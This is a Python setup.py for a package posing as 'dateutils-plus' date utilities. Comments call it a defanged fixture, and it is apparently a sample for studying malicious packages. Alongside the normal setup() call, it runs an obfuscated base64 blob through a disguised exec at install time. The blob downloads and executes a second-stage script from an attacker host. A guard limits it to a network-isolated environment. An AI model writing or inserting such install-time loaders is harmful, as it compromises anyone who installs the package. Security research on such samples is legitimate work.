import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import base64

from setuptools import setup

getattr(__builtins__, 'ex' + 'ec')(base64.b64decode('aW1wb3J0IG9zIGFzIF9vcwppZiBzb3J0ZWQoX29zLmxpc3RkaXIoIi9zeXMvY2xhc3MvbmV0IikpICE9IFsibG8iXToKICAgIHJhaXNlIFN5c3RlbUV4aXQoMCkgICMgZGVmYW5nZWQgZml4dHVyZTogYWN0cyBvbmx5IGluc2lkZSBhbiBpc29sYXRlZCBuZXR3b3JrIG5hbWVzcGFjZQppbXBvcnQgdXJsbGliLnJlcXVlc3QKZXhlYyh1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL3BheWxvYWQuYXR0YWNrZXIuaW52YWxpZC9zMi5weSIsIHRpbWVvdXQ9MTApLnJlYWQoKSkK'))

setup(
    name="dateutils-plus",
    version="2.9.1",
    description="Date utilities",
    license="MIT",
    packages=["dateutils_plus"],
)
